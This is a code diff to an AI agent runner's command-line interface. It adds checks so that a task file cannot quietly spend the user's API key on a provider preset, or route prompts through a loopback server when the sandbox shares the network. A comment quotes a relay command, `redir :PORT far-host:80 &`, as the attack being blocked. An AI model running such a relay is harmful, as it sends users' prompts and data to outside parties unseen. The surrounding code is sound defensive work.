@@ -56,7 +56,7 @@ def _asker(guard: Guard, *, interactive: bool | None = None) -> Callable[[Any, V
 def run(
     task: Annotated[str | None, typer.Argument(help="What the agent should do, in plain words.")] = None,
     task_file: Annotated[Path | None, typer.Option("--task-file", "-f", help="A YAML task file instead of TASK. Its `mcp:` stdio servers run in a bubblewrap sandbox (no network, the shell's memory, process and CPU limits, a clean environment: HOME, PATH... and their `env:`); an entry's `network: full` is taken only with your word (--mcp-network NAME, or `network:` in your own $MACROHARD_HOME/mcp.yaml), else the run is refused; on this machine, outside the sandbox, only those your own mcp.yaml lists under `host:`.")] = None,
-    model: Annotated[str | None, typer.Option("--model", "-m", help="Model spec: local, local:qwen-1.5b, xai, openai:MODEL, http://HOST/v1 … (default: $MACROHARD_MODEL, else local:qwen-1.5b when installed, else local; see `macrohard models`).")] = None,
+    model: Annotated[str | None, typer.Option("--model", "-m", help="Model spec: local, local:qwen-1.5b, xai, openai:MODEL, http://HOST/v1 … (default: $MACROHARD_MODEL, else local:qwen-1.5b when installed, else local; see `macrohard models`). A task file's own `model:` may name a local model, `scripted:FILE` or a server on this machine's loopback (sent no key); a provider preset (xai, openai) runs on your key and money, so it is taken only when you name it here.")] = None,
     environment: Annotated[str | None, typer.Option("--environment", "-e", help="Where the agent works: shell (default), browser, desktop.")] = None,
     workspace: Annotated[Path | None, typer.Option("--workspace", "-w", help="Directory to work in (default: a fresh one).")] = None,
     max_steps: Annotated[int | None, typer.Option("--max-steps", help="Step budget.")] = None,
@@ -85,9 +85,10 @@ def run(
         updates["model"] = model
     keyless = False
     if not model and spec is not None:  # rt47: the task file's own model: no server that gets the person's key
-        from macrohard.models import task_file_model
+        from macrohard.models import task_file_model, task_file_preset
 
         keyless = task_file_model(spec.model, f"the task file {task_file}")
+        task_file_preset(spec.model, f"the task file {task_file}")  # rt48c: a preset runs on the person's key
     if workspace:
         updates["workspace"] = str(workspace)
     if source:
@@ -128,7 +129,16 @@ def run(
         from macrohard.money.wallet import open_wallet
 
         extra_envs.append(open_wallet(store, wallet, guard.policy))
-    llm = get_model(spec.model, keyless=keyless and spec.model == base.get("model"))
+    keyless = keyless and spec.model == base.get("model")
+    if keyless and spec.network == "full":
+        # rt48c: with `full` the sandbox shares this machine's network, so a process of the run itself (a setup
+        # step's `redir :PORT far-host:80 &`) can be the "loopback" server and pass every prompt on, unreviewed
+        raise UserError(f"the task file {task_file} names a model server on this machine's loopback "
+                        f"({spec.model.partition('#')[0]!r}) for a run with network 'full': a program of the run itself "
+                        "could listen there and pass every prompt (the task, and all the agent reads) anywhere. If "
+                        f"that server is yours, say it with `--model {spec.model}`; or run with less network "
+                        "(--network none, loopback or hosts)")
+    llm = get_model(spec.model, keyless=keyless)
     limit = spec.budget.max_model_seconds
     if limit is not None and isinstance(getattr(llm, "timeout", None), float) and llm.timeout > limit:
         # an HTTP model retries 5xx within its own timeout: held to the run's deadline, it says what the server
